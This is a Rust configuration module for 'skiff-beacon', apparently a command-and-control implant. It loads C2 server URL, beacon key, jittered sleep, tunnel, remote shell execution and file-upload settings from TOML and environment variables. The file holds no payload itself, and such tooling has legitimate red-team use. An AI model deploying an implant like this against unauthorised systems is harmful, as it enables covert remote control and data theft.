//! Configuration loading for skiff-beacon.
//!
//! Resolved in order of precedence (highest wins):
//!
//! 1. **Environment variables**: `SKIFF_SERVER_URL`, `SKIFF_BEACON_KEY`,
//!    `SKIFF_BEACON_ID`
//! 2. **Config file**: path via `--config <path>`, or `skiff-beacon.toml` in CWD
//! 3. **Compiled defaults**
//!
//! ```toml
//! [server]
//! url = "https://c2.example.net:8443"
//! beacon_key = "beacon-secret"
//! beacon_id = "ws01-a"            # random per process when omitted
//! connect_timeout_secs = 10
//! request_timeout_secs = 30
//!
//! [sleep]
//! interval_secs = 10
//! jitter_pct = 20
//!
//! [tunnel]
//! dial_timeout_ms = 5000
//! read_timeout_ms = 500
//! write_timeout_ms = 5000
//! inbound_depth = 10
//! outbound_depth = 256
//! enqueue_timeout_ms = 50
//!
//! [exec]
//! shell = "/bin/sh"
//! timeout_ms = 60000
//! max_output_bytes = 1048576
//! max_upload_bytes = 67108864
//!
//! [logging]
//! level = "info"
//! ```

use std::path::Path;
use std::time::Duration;

use serde::Deserialize;
use thiserror::Error;

const DEFAULT_CONFIG_FILE: &str = "skiff-beacon.toml";

#[derive(Debug, Error)]
pub enum ConfigError {
    #[error("failed to read config file {path}: {source}")]
    Read {
        path: String,
        source: std::io::Error,
    },
    #[error("failed to parse config file {path}: {source}")]
    Parse {
        path: String,
        source: toml::de::Error,
    },
    #[error("server url is empty (set [server] url or SKIFF_SERVER_URL)")]
    MissingUrl,
}

#[derive(Debug, Clone, Default, Deserialize)]
pub struct BeaconConfig {
    #[serde(default)]
    pub server: ServerConfig,
    #[serde(default)]
    pub sleep: SleepConfig,
    #[serde(default)]
    pub tunnel: TunnelConfig,
    #[serde(default)]
    pub exec: ExecConfig,
    #[serde(default)]
    pub logging: LoggingConfig,
}

#[derive(Debug, Clone, Deserialize)]
pub struct ServerConfig {
    #[serde(default)]
    pub url: String,
    #[serde(default)]
    pub beacon_key: String,
    /// Stable identity. A random id is generated at startup when unset.
    #[serde(default)]
    pub beacon_id: Option<String>,
    #[serde(default = "default_connect_timeout_secs")]
    pub connect_timeout_secs: u64,
    #[serde(default = "default_request_timeout_secs")]
    pub request_timeout_secs: u64,
}

#[derive(Debug, Clone, Deserialize)]
pub struct SleepConfig {
    #[serde(default = "default_interval_secs")]
    pub interval_secs: u64,
    /// Percentage of the interval added or removed at random (0–100).
    #[serde(default = "default_jitter_pct")]
    pub jitter_pct: u8,
}

#[derive(Debug, Clone, Deserialize)]
pub struct TunnelConfig {
    #[serde(default = "default_dial_timeout_ms")]
    pub dial_timeout_ms: u64,
    /// Read deadline so workers notice cancellation (default 500 ms).
    #[serde(default = "default_read_timeout_ms")]
    pub read_timeout_ms: u64,
    #[serde(default = "default_write_timeout_ms")]
    pub write_timeout_ms: u64,
    /// Per-tunnel queue of server data waiting to be written (default 10).
    #[serde(default = "default_inbound_depth")]
    pub inbound_depth: usize,
    /// Process-wide queue of messages waiting for the next check-in.
    #[serde(default = "default_outbound_depth")]
    pub outbound_depth: usize,
    /// How long a worker waits for outbound space before dropping (default 50 ms).
    #[serde(default = "default_enqueue_timeout_ms")]
    pub enqueue_timeout_ms: u64,
}

#[derive(Debug, Clone, Deserialize)]
pub struct ExecConfig {
    #[serde(default = "default_shell")]
    pub shell: String,
    #[serde(default = "default_exec_timeout_ms")]
    pub timeout_ms: u64,
    /// Cap per output stream of a shell task.
    #[serde(default = "default_max_output_bytes")]
    pub max_output_bytes: usize,
    /// Largest file an `upload` task will read.
    #[serde(default = "default_max_upload_bytes")]
    pub max_upload_bytes: u64,
}

#[derive(Debug, Clone, Deserialize)]
pub struct LoggingConfig {
    /// tracing filter level (default `info`). Overridden by `RUST_LOG` env var.
    #[serde(default = "default_log_level")]
    pub level: String,
}

fn default_connect_timeout_secs() -> u64 {
    10
}
fn default_request_timeout_secs() -> u64 {
    30
}
fn default_interval_secs() -> u64 {
    10
}
fn default_jitter_pct() -> u8 {
    20
}
fn default_dial_timeout_ms() -> u64 {
    5000
}
fn default_read_timeout_ms() -> u64 {
    500
}
fn default_write_timeout_ms() -> u64 {
    5000
}
fn default_inbound_depth() -> usize {
    10
}
fn default_outbound_depth() -> usize {
    256
}
fn default_enqueue_timeout_ms() -> u64 {
    50
}
fn default_shell() -> String {
    if cfg!(windows) {
        "cmd".to_string()
    } else {
        "/bin/sh".to_string()
    }
}
fn default_exec_timeout_ms() -> u64 {
    60_000
}
fn default_max_output_bytes() -> usize {
    1024 * 1024
}
fn default_max_upload_bytes() -> u64 {
    64 * 1024 * 1024
}
fn default_log_level() -> String {
    "info".to_string()
}

impl Default for ServerConfig {
    fn default() -> Self {
        Self {
            url: String::new(),
            beacon_key: String::new(),
            beacon_id: None,
            connect_timeout_secs: default_connect_timeout_secs(),
            request_timeout_secs: default_request_timeout_secs(),
        }
    }
}

impl Default for SleepConfig {
    fn default() -> Self {
        Self {
            interval_secs: default_interval_secs(),
            jitter_pct: default_jitter_pct(),
        }
    }
}

impl Default for TunnelConfig {
    fn default() -> Self {
        Self {
            dial_timeout_ms: default_dial_timeout_ms(),
            read_timeout_ms: default_read_timeout_ms(),
            write_timeout_ms: default_write_timeout_ms(),
            inbound_depth: default_inbound_depth(),
            outbound_depth: default_outbound_depth(),
            enqueue_timeout_ms: default_enqueue_timeout_ms(),
        }
    }
}

impl TunnelConfig {
    pub fn dial_timeout(&self) -> Duration {
        Duration::from_millis(self.dial_timeout_ms)
    }
    pub fn read_timeout(&self) -> Duration {
        Duration::from_millis(self.read_timeout_ms)
    }
    pub fn write_timeout(&self) -> Duration {
        Duration::from_millis(self.write_timeout_ms)
    }
    pub fn enqueue_timeout(&self) -> Duration {
        Duration::from_millis(self.enqueue_timeout_ms)
    }
}

impl Default for ExecConfig {
    fn default() -> Self {
        Self {
            shell: default_shell(),
            timeout_ms: default_exec_timeout_ms(),
            max_output_bytes: default_max_output_bytes(),
            max_upload_bytes: default_max_upload_bytes(),
        }
    }
}

impl Default for LoggingConfig {
    fn default() -> Self {
        Self {
            level: default_log_level(),
        }
    }
}

impl BeaconConfig {
    /// Load with the precedence chain: env vars > file > defaults.
    pub fn load(path: Option<&str>) -> Result<Self, ConfigError> {
        let mut config = match path {
            Some(p) => Self::from_file(p)?,
            None if Path::new(DEFAULT_CONFIG_FILE).exists() => {
                Self::from_file(DEFAULT_CONFIG_FILE)?
            }
            None => BeaconConfig::default(),
        };

        if let Ok(url) = std::env::var("SKIFF_SERVER_URL") {
            config.server.url = url;
        }
        if let Ok(key) = std::env::var("SKIFF_BEACON_KEY") {
            config.server.beacon_key = key;
        }
        if let Ok(id) = std::env::var("SKIFF_BEACON_ID") {
            config.server.beacon_id = Some(id);
        }

        if config.server.url.trim().is_empty() {
            return Err(ConfigError::MissingUrl);
        }
        config.sleep.jitter_pct = config.sleep.jitter_pct.min(100);
        Ok(config)
    }

    fn from_file(path: &str) -> Result<Self, ConfigError> {
        let content = std::fs::read_to_string(path).map_err(|source| ConfigError::Read {
            path: path.to_string(),
            source,
        })?;
        toml::from_str(&content).map_err(|source| ConfigError::Parse {
            path: path.to_string(),
            source,
        })
    }
}
